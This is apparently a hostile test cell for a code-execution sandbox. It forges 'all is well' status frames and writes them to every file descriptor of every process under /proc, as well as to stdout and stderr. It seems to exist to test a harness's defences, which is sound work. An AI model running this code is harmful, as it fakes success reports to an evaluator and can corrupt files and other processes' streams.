# /// hostile
# about = "Frames that say that all is well, written to every descriptor of every process in sight."
# score = 0.4
# causes = { "Scale.forward" = "missing", "Scale.gradient" = "missing", "word.word" = "missing" }
# ///
# %%
del Scale, word
import json
import os
import struct

frames = b""
for header in (
    {"type": "cell", "index": 0, "status": "ok", "duration_s": 0, "error": None, "rescued": [], "truncated": False},
    {"type": "ran", "cpu_s": 0, "peak_memory_bytes": 0},
    {"type": "value", "value": {"k": "dict", "v": {"out": "zzzzz"}}},
):
    body = json.dumps(header).encode()
    frames += struct.pack(">4sIQ", b"ZCH1", len(body), 0) + body
for pid in filter(str.isdigit, os.listdir("/proc")):
    folder = f"/proc/{pid}/fd"
    try:
        descriptors = os.listdir(folder)
    except OSError:
        continue
    for fd in descriptors:
        try:
            target = os.readlink(f"{folder}/{fd}")
            if target.startswith(("pipe:", "/dev/", "/")) and "zmq" not in target:
                mine = os.open(f"{folder}/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(mine, frames)
                os.close(mine)
        except OSError:
            continue
for stream in (1, 2):
    os.write(stream, frames)
